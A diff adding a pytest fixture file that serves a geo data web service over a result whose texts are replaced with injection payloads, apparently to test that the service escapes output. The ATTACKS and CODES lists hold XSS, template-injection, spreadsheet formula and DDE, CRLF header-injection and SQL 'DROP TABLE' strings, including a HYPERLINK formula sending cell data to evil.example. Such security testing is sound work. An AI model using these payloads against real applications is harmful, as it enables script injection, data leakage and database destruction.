@@ -1,0 +1,204 @@
+"""Running services over the sample and over a result in which every text attacks its reader."""
+
+from __future__ import annotations
+
+import copy
+import dataclasses
+import re
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+import pytest
+from werkzeug.serving import make_server
+
+from geo_service.core.i18n import Text
+from geo_service.core.result import Anomalies, Anomaly, Provenance, Result
+from geo_service.store import save_result
+from geo_service.web import create_app
+
+IMAGE = "<img src=x onerror=window.pwned=1>"
+SCRIPT = "</script><script>window.pwned=1</script>"
+PRODUCT = "{{7331*1337}}${7331*1337}#{7331*1337}<%=7331*1337%>"
+"""A template engine that took it for its own would say 9801547."""
+ATTACKS = (
+    f"=cmd|'/c calc'!A1{IMAGE}",
+    f"{SCRIPT}<svg onload=window.pwned=1>",
+    f"\" autofocus onfocus=window.pwned=1 x=\"' onmouseover='window.pwned=1 {PRODUCT}",
+    f"\u202e{IMAGE}\u2066\u200f\u2028\u2029\ufeff]]><!--<script>",
+    f"@SUM(1+1)*cmd{IMAGE}\r\nSet-Cookie: pwned=1\r\n\r\n",
+    f"+1+1\x00\x01\x07\x1b[31m\x7f\x85{SCRIPT}",
+    f"-2+3+cmd|' /C calc'!A0`${{window.pwned=1}}`{PRODUCT}",
+    f"\t=HYPERLINK(\"http://evil.example/?x=\"&A1){IMAGE}",
+    "javascript:window.pwned=1//'\"><base href=http://evil.example/>",
+    f"{IMAGE}" + "é\u0301" * 2000 + "W" * 2000,
+    "\\\";window.pwned=1;//</textarea></title></style><style>*{background:url(//evil.example)}",
+    f"😀𝒳\U000e0041{SCRIPT}",
+)
+"""Each is put before or in place of texts of the result."""
+CODES = (
+    "",
+    '"><img src=x onerror=window.pwned=1>',
+    "'>{{7331*1337}}<svg\u000bonload=window.pwned=1>",
+    "?as_of=x&lang=xx#y{{7331*1337}}",
+    "\u202e=cmd|' calc'!A1",
+    ";DROP TABLE structures--%00%2f..",
+)
+"""What follows a code; the first leaves it as it is, none holds the slash that ends an address."""
+_CODED = re.compile(
+    r"^(?P<head>(?:commune|epci|departement|region|qpv|zonage):)?(?P<code>[0-9A-Z]{2,14})"
+    r"(?P<tail>-\d+m)?$"
+)
+_KEYS = frozenset(
+    "structure_id finess finess_ej siret zone_id code commune communes epci departement region qpv"
+    " territory record".split()
+)
+"""Columns whose values name a row elsewhere: the same code becomes the same everywhere."""
+_CHOSEN = frozenset(
+    "kind category position geocoder open in_qpv near_declared zone_class zonage zone_kind repair"
+    " indicator scope definition unit outcome series class_label class_label_en"
+    " near_proxy_300m near_proxy_500m".split()
+)
+"""Columns of a few known words: one row in seven has an unknown one, so that both ways are taken."""
+_KEPT = frozenset({"level"})
+_OWN = ("source", "layout", "vintage_basis")
+"""Names of this package's readers and literals of its types: no file gives them."""
+
+
+def _code(value: str) -> str:
+    found = _CODED.match(value)
+    if found is None:
+        return value
+    ending = CODES[(sum(map(ord, found["code"])) + 1) % len(CODES)]
+    return f"{found['head'] or ''}{found['code']}{ending}{found['tail'] or ''}"
+
+
+def _attacked(table: Any) -> Any:
+    """The table with every text replaced."""
+    table = table.copy()
+    for place, column in enumerate(table.columns):
+        if str(table[column].dtype) not in ("str", "object") or column in _KEPT:
+            continue
+        old = table[column].astype("object").where(table[column].notna(), None)
+        if column in _KEYS:
+            new = [None if it is None else " ".join(map(_code, it.split())) for it in old]
+        elif column in _CHOSEN:
+            new = [
+                ATTACKS[row % len(ATTACKS)] if row % 7 == 3 and it is not None else it
+                for row, it in enumerate(old)
+            ]
+        else:
+            new = [
+                f"{ATTACKS[(row + place) % len(ATTACKS)]}{it or ''}" if row % 11 != 10 else it
+                for row, it in enumerate(old)
+            ]
+        table[column] = new
+        table[column] = table[column].astype("str")
+    return table
+
+
+def _attacked_record(record: Any, number: int, kept: tuple[str, ...]) -> Any:
+    """A record of texts with every text replaced."""
+    new: dict[str, Any] = {}
+    for place, field in enumerate(dataclasses.fields(record)):
+        value = getattr(record, field.name)
+        attack = ATTACKS[(number + place) % len(ATTACKS)]
+        if field.name in kept:
+            continue
+        if isinstance(value, Text) or field.name == "note":
+            new[field.name] = Text(f"{attack} fr", f"{attack} en")
+        elif isinstance(value, str) or field.name in ("publisher", "title", "licence", "member"):
+            new[field.name] = f"{attack}{value or ''}"
+    return dataclasses.replace(record, **new)
+
+
+def make_hostile(result: Result) -> Result:
+    """The result with every text of it replaced by an attack, codes alike wherever they stand."""
+    hostile = copy.copy(result)
+    hostile.layers = {name: _attacked(table) for name, table in result.layers.items()}
+    hostile.tables = {name: _attacked(table) for name, table in result.tables.items()}
+    hostile.figures = _attacked(result.indicators)
+    hostile.anomalies = Anomalies(
+        _anomaly(one, number) for number, one in enumerate(result.anomalies)
+    )
+    hostile.provenance = [_source(one, number) for number, one in enumerate(result.provenance)]
+    attack = "".join(ATTACKS[:9])
+    hostile.facts = {
+        **result.facts,
+        "name": f"{attack} {result.facts['name']}",
+        "territory": _code(result.facts["territory"]),
+        "territory_name": f"{attack} {result.facts['territory_name']}",
+        "scope": ATTACKS[1],
+        "kinds": [*result.facts["kinds"], ATTACKS[0], ATTACKS[5]],
+        "code_version": ATTACKS[3],
+    }
+    return hostile
+
+
+def _anomaly(one: Anomaly, number: int) -> Anomaly:
+    new: Anomaly = _attacked_record(one, number, ("source", "outcome"))
+    return dataclasses.replace(new, record=one.record and _code(one.record))
+
+
+def _source(one: Provenance, number: int) -> Provenance:
+    new: Provenance = _attacked_record(one, number, _OWN)
+    addresses = ("javascript:window.pwned=1", 'https://x.example/"><img src=x onerror=pwned=1>')
+    return dataclasses.replace(new, url=addresses[number % 2])
+
+
+@contextmanager
+def running(path: Path) -> Iterator[str]:
+    """A service over a result, on this machine alone; its address."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("GEO_SERVICE_RATE", "off")
+        server = make_server("127.0.0.1", 0, create_app(path), threaded=True)
+    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}"
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join()
+
+
+@pytest.fixture(scope="session")
+def hostile_result(sample_result: Result) -> Result:
+    """The sample's result in which every text attacks its reader."""
+    return make_hostile(sample_result)
+
+
+@pytest.fixture(scope="session")
+def hostile_file(hostile_result: Result, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The hostile result as a stored file."""
+    path = tmp_path_factory.mktemp("hostile") / "hostile.gpkg"
+    save_result(hostile_result, path)
+    return path
+
+
+@pytest.fixture(scope="session")
+def service(sample_file: Path) -> Iterator[str]:
+    """Address of a running service over the sample."""
+    with running(sample_file) as address:
+        yield address
+
+
+@pytest.fixture(scope="session")
+def hostile_service(hostile_file: Path) -> Iterator[str]:
+    """Address of a running service over the hostile result."""
+    with running(hostile_file) as address:
+        yield address
+
+
+@pytest.fixture(scope="session")
+def attacks() -> tuple[str, ...]:
+    """The texts that the hostile result is made of."""
+    return ATTACKS
+
+
+@pytest.fixture
+def recode() -> Callable[[str], str]:
+    """What became of a code of the sample in the hostile result."""
+    return _code
